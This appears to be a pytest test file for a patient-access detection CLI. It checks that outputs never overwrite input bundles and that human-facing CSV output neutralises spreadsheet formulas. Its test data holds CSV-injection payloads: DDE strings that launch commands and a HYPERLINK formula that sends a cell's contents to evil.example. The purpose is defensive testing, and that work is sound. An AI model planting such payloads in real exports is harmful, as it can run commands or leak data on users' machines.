"""Issue 12, outputs: an output never destroys an input, replaces only folders the tool wrote, and what is
meant for people is safe to open in a spreadsheet and never echoes a record value, not even as a column
name.

Catalogue built by the tests: each case lays out a tiny bundle (and a workspace where needed) in its own
folder, runs one command in-process, and checks the exit code, one line on stderr, no traceback, and that
the whole folder (every input) is byte for byte what it was.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result
from hostile_cli import SECRET, invoke, tree_digest

from detector.common.outputs import MARKER
from detector.common.render import emit
from detector.common.spreadsheet import RISKY

HEADER = "timestamp,user_id,patient_id,action,event_id"
ROWS = [
    "2026-03-09T14:00:00Z,u1,MRN000001,view,e1",
    f"2026-03-09T15:00:00Z,u1,{SECRET},view,e2",
    "2026-03-10T09:00:00Z,u2,MRN000002,print,e3",
]


def assert_refused(result: Result, code: int) -> None:
    detail = f"exit {result.exit_code}\nstdout: {result.stdout}\nstderr: {result.stderr}"
    assert result.exit_code == code, detail
    assert result.exception is None or isinstance(result.exception, SystemExit), detail
    assert "Traceback" not in result.output and SECRET not in result.output, detail
    errors = [line for line in result.stderr.splitlines() if line.lower().startswith("error:")]
    assert len(errors) == 1, detail  # click's own usage errors add a usage line and a --help pointer


def bundle_at(folder: Path, rows: list[str] | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "access_log.csv").write_text("\n".join([HEADER, *(rows or ROWS)]) + "\n", encoding="utf-8")
    (folder / "mapping.toml").write_text('[site]\ntimezone = "UTC"\n', encoding="utf-8")
    return folder


def workspace_at(folder: Path, bundle: Path) -> Path:
    (bundle / "access_log").mkdir(exist_ok=True)
    assert invoke("init", "--workspace", folder, "--bundle", bundle).exit_code == 0
    return folder


# -- 1. outputs that would overwrite an input are refused ---------------------------------------------

Layout = Callable[[Path], list[str | Path]]


def _symlinked(t: Path) -> list[str | Path]:
    (t / "link").symlink_to(bundle_at(t / "b"))
    return ["ingest", t / "b", "--out", t / "link"]


def _inside_symlinked_bundle(t: Path) -> list[str | Path]:
    bundle_at(t / "real")
    (t / "alias").symlink_to(t / "real")
    return ["ingest", t / "alias", "--out", t / "real" / "out"]


def _mapping_inside_out(t: Path) -> list[str | Path]:
    bundle_at(t / "b")
    (t / "conf").mkdir()
    (t / "conf" / "site.toml").write_text('[site]\ntimezone = "UTC"\n', encoding="utf-8")
    return ["ingest", t / "b", "--mapping", t / "conf" / "site.toml", "--out", t / "conf"]


def _foreign(t: Path, name: str = "keep.txt") -> Path:
    (t / "theirs").mkdir()
    (t / "theirs" / name).write_text("someone's notes", encoding="utf-8")
    return t / "theirs"


def _symlink_to_foreign(t: Path) -> list[str | Path]:
    (t / "link").symlink_to(_foreign(t))
    return ["ingest", bundle_at(t / "b"), "--out", t / "link"]


def _out_is_a_file(t: Path) -> list[str | Path]:
    (t / "report.txt").write_text("someone's file", encoding="utf-8")
    return ["ingest", bundle_at(t / "b"), "--out", t / "report.txt"]


def _investigate_into_log(t: Path) -> list[str | Path]:
    b = bundle_at(t / "b")
    return ["investigate", "user", "u1", "--bundle", b, "--format", "csv", "--out", b / "access_log.csv"]


RUN = ["run"]
SINCE = ["--since", "2026-03-10"]

REFUSED: list[object] = [
    pytest.param(
        lambda t: ["ingest", bundle_at(t / "b"), "--out", t / "b"], 64, id="ingest-out-is-the-bundle"
    ),
    pytest.param(
        lambda t: ["ingest", bundle_at(t / "b"), "--out", t], 64, id="ingest-out-contains-the-bundle"
    ),
    pytest.param(
        lambda t: ["ingest", bundle_at(t / "b"), "--out", t / "b" / "out"],
        64,
        id="ingest-out-inside-the-bundle",
    ),
    pytest.param(
        lambda t: ["ingest", bundle_at(t / "b"), "--out", t / "b" / "x" / "y"],
        64,
        id="ingest-out-deep-inside",
    ),
    pytest.param(
        lambda t: ["ingest", bundle_at(t / "b"), "--out", t / "b" / ".." / "b"],
        64,
        id="ingest-out-dotdot-is-bundle",
    ),
    pytest.param(_symlinked, 64, id="ingest-out-symlink-to-the-bundle"),
    pytest.param(_inside_symlinked_bundle, 64, id="ingest-out-inside-a-symlinked-bundle"),
    pytest.param(_mapping_inside_out, 64, id="ingest-out-contains-the-mapping"),
    pytest.param(
        lambda t: ["run", bundle_at(t / "data" / "bundle"), *SINCE, "--out", t / "data"],
        64,
        id="run-data-bundle-out-data",
    ),
    pytest.param(
        lambda t: ["run", bundle_at(t / "b"), *SINCE, "--out", t / "b"], 64, id="run-out-is-the-bundle"
    ),
    pytest.param(
        lambda t: ["run", bundle_at(t / "b"), *SINCE, "--out", t / "b" / "access_log.csv"],
        64,
        id="run-out-is-the-access-log",
    ),
    pytest.param(
        lambda t: ["ingest", bundle_at(t / "b"), "--out", workspace_at(t / "w", t / "b")],
        64,
        id="ingest-out-is-a-workspace",
    ),
    pytest.param(
        lambda t: ["ingest", bundle_at(t / "b"), "--out", workspace_at(t / "w", t / "b") / "runs" / "x"],
        64,
        id="ingest-out-inside-a-workspace",
    ),
    pytest.param(
        lambda t: ["run", bundle_at(t / "b"), *SINCE, "--out", workspace_at(t / "w", t / "b") / "models"],
        64,
        id="run-out-inside-a-workspace",
    ),
    pytest.param(
        lambda t: ["ingest", bundle_at(t / "b"), "--out", _foreign(t)], 73, id="ingest-out-foreign-folder"
    ),
    pytest.param(
        lambda t: ["run", bundle_at(t / "b"), *SINCE, "--out", _foreign(t)], 73, id="run-out-foreign-folder"
    ),
    pytest.param(
        lambda t: ["ingest", bundle_at(t / "b"), "--out", _foreign(t, ".git")],
        73,
        id="ingest-out-hidden-file-only",
    ),
    pytest.param(_symlink_to_foreign, 73, id="ingest-out-symlink-to-foreign-folder"),
    pytest.param(_out_is_a_file, 64, id="ingest-out-is-a-file"),
    pytest.param(_investigate_into_log, 64, id="investigate-out-is-the-access-log"),
    pytest.param(
        lambda t: ["investigate", "user", "u1", "--bundle", bundle_at(t / "b"), "--out", t / "b" / "r.txt"],
        64,
        id="investigate-out-inside-the-bundle",
    ),
    pytest.param(
        lambda t: ["init", "--workspace", bundle_at(t / "b"), "--bundle", t / "b"],
        64,
        id="init-workspace-is-bundle",
    ),
    pytest.param(
        lambda t: ["init", "--workspace", bundle_at(t / "b") / "ws", "--bundle", t / "b"],
        64,
        id="init-workspace-inside-bundle",
    ),
    pytest.param(
        lambda t: ["sample", "--out", _foreign(t), "--days", "2", "--scored-days", "1", "--scale", "0.01"],
        73,
        id="sample-out-foreign-folder",
    ),
]


@pytest.mark.parametrize(("layout", "code"), REFUSED)
def test_an_output_that_would_destroy_an_input_is_refused(layout: Layout, code: int, tmp_path: Path) -> None:
    args = layout(tmp_path)
    before = tree_digest(tmp_path, dirs=True)
    result = invoke(*args)
    assert_refused(result, code)
    assert tree_digest(tmp_path, dirs=True) == before, "nothing written, nothing removed"


def test_an_existing_empty_folder_or_the_tools_own_output_is_replaced(tmp_path: Path) -> None:
    bundle = bundle_at(tmp_path / "b")
    out = tmp_path / "out"
    out.mkdir()
    assert invoke("ingest", bundle, "--out", out).exit_code == 0
    assert (out / MARKER).is_file()
    (out / "stale.txt").write_text("left by hand", encoding="utf-8")
    assert invoke("ingest", bundle, "--out", out).exit_code == 0
    assert not (out / "stale.txt").exists() and (out / MARKER).is_file()
    assert not [p for p in tmp_path.iterdir() if ".staging-" in p.name or ".retired-" in p.name]


def test_a_workspace_may_hold_its_bundle(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    bundle = bundle_at(ws / "extracts")
    (bundle / "access_log").mkdir()
    assert invoke("init", "--workspace", ws, "--bundle", bundle).exit_code == 0


def test_sample_may_regenerate_a_generated_bundle(tmp_path: Path) -> None:
    args = ["sample", "--out", tmp_path / "gen", "--days", "2", "--scored-days", "1", "--scale", "0.01"]
    assert invoke(*args).exit_code == 0
    assert invoke(*args).exit_code == 0


# -- 2. CSV for people is spreadsheet-safe; the exact content stays machine-readable --------------------

FORMULA_LINES = [
    pytest.param('=HYPERLINK("http://evil.example/?"&A1;"click")', id="equals-hyperlink"),
    pytest.param("=cmd|' /C calc'!A0", id="equals-dde"),
    pytest.param("+cmd|' /C calc'!A0", id="plus-dde"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="minus-dde"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at-sum"),
    pytest.param("\t=1+1", id="tab-then-equals"),
    pytest.param("   =1+1", id="spaces-then-equals"),
    pytest.param(f"={SECRET}", id="equals-record-value"),
]


def _reject_bundle(folder: Path, line: str) -> Path:
    bundle = bundle_at(folder, [*ROWS, line])
    return bundle


def _risky(cell: str) -> bool:
    return bool(re.match(RISKY, cell))


@pytest.mark.parametrize("line", FORMULA_LINES)
def test_rejects_csv_quotes_formulas_and_rejects_jsonl_keeps_the_line_exactly(
    line: str, tmp_path: Path
) -> None:
    bundle = _reject_bundle(tmp_path / "b", line)
    out = tmp_path / "out"
    result = invoke("ingest", bundle, "--out", out, "--max-reject-fraction", "1")
    assert result.exit_code == 0, result.output
    with (out / "rejects.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 1
    assert all(not _risky(v) for row in rows for v in row.values()), rows
    assert rows[0]["raw"] == "'" + line
    exact = [json.loads(x) for x in (out / "rejects.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [r["raw"] for r in exact] == [line] and exact[0]["line"] == 5


def test_plain_numbers_are_not_quoted(tmp_path: Path) -> None:
    bundle = _reject_bundle(tmp_path / "b", "-42")
    out = tmp_path / "out"
    assert invoke("ingest", bundle, "--out", out, "--max-reject-fraction", "1").exit_code == 0
    with (out / "rejects.csv").open(newline="", encoding="utf-8") as handle:
        assert [r["raw"] for r in csv.DictReader(handle)] == ["-42"]


EMIT_CELLS = [
    pytest.param("=1+1", "'=1+1", id="emit-equals"),
    pytest.param("+1+cmd", "'+1+cmd", id="emit-plus"),
    pytest.param("-1+cmd", "'-1+cmd", id="emit-minus"),
    pytest.param("@cmd", "'@cmd", id="emit-at"),
    pytest.param("\tx", "'\tx", id="emit-tab"),
    pytest.param("  @x", "'  @x", id="emit-space-at"),
    pytest.param("-3.5", "-3.5", id="emit-negative-number"),
    pytest.param("a=b", "a=b", id="emit-equals-inside"),
    pytest.param("u1", "u1", id="emit-plain"),
]


@pytest.mark.parametrize(("value", "shown"), EMIT_CELLS)
def test_review_csv_quotes_formulas_and_json_keeps_them(value: str, shown: str) -> None:
    rows = [{"user_id": value, "note": "ok"}]
    parsed = list(csv.reader(io.StringIO(emit(rows, ["user_id", "note"], "csv"))))
    assert parsed == [["user_id", "note"], [shown, "ok"]]
    assert json.loads(emit(rows, ["user_id", "note"], "json"))[0]["user_id"] == value


def test_a_carriage_return_cell_is_quoted() -> None:
    parsed = list(csv.reader(io.StringIO(emit([{"c": "\r=1"}], ["c"], "csv"))))
    assert not _risky(parsed[1][0])


def test_investigate_csv_quotes_a_formula_from_the_context_tables(tmp_path: Path) -> None:
    days = [f"2026-03-{d:02d}" for d in range(1, 11)]
    rows = [f"{d}T10:00:00Z,u1,P{k},view,e{d}{k}" for d in days for k in range(3)]
    bundle = bundle_at(tmp_path / "b", rows)
    (bundle / "users.csv").write_text(
        'user_id,role,department\nu1,"=HYPERLINK(""http://evil.example"")",-cmd\n', encoding="utf-8"
    )
    result = invoke("investigate", "patient", "P1", "--bundle", bundle, "--format", "csv")
    assert result.exit_code == 0, result.output
    table = list(csv.DictReader(io.StringIO(result.stdout)))
    assert table and all(not _risky(v) for row in table for v in row.values() if v)
    assert table[0]["role"].lower() == '\'=hyperlink("http://evil.example")'
    assert table[0]["department"].lower() == "'-cmd"


# -- 3. column names are data too ---------------------------------------------------------------------

HEADER_NAMES = [
    pytest.param("Jane Doe, 12 Elm Street, Springfield", id="name-and-address"),
    pytest.param(f"Doe, Jane ({SECRET})", id="record-value"),
    pytest.param("=1+1", id="formula"),
    pytest.param("x" * 80, id="very-long"),
    pytest.param("a b c d e", id="sentence"),
    pytest.param("line\nbreak", id="line-break"),
]


@pytest.mark.parametrize("name", HEADER_NAMES)
def test_an_unknown_jsonl_key_that_is_not_a_column_name_is_never_echoed(name: str, tmp_path: Path) -> None:
    bundle = tmp_path / "b"
    bundle.mkdir()
    record = {"timestamp": "2026-03-09T14:00:00Z", "user_id": "u1", "patient_id": "P1", "action": "view"}
    lines = [
        json.dumps(record | {"TERMINAL_COLOR": "red", name: "x"}),
        json.dumps(record | {"event_id": "e2"}),
    ]
    (bundle / "access_log.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    result = invoke("ingest", bundle, "--out", out, "--timezone", "UTC")
    assert result.exit_code == 0, result.output
    assert "ignored columns: TERMINAL_COLOR, <column 1>" in result.stdout
    for text in (result.output, (out / "summary.json").read_text(encoding="utf-8")):
        assert name not in text and json.dumps(name)[1:-1] not in text
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert summary["tables"]["access_log"]["ignored_columns"] == ["TERMINAL_COLOR", "<column 1>"]


def test_an_unknown_csv_header_that_looks_like_a_column_is_still_listed(tmp_path: Path) -> None:
    bundle = tmp_path / "b"
    bundle.mkdir()
    text = "timestamp,user_id,patient_id,action,Workstation Room,John Q Public 555-1234 Main St\n"
    text += "2026-03-09T14:00:00Z,u1,P1,view,r1,x\n"
    (bundle / "access_log.csv").write_text(text, encoding="utf-8")
    result = invoke("ingest", bundle, "--out", tmp_path / "out", "--timezone", "UTC", "--json")
    assert result.exit_code == 0, result.output
    shown = json.loads(result.stdout)["tables"]["access_log"]["ignored_columns"]
    assert shown == ["Workstation Room", "<column 1>"] and "John" not in result.output
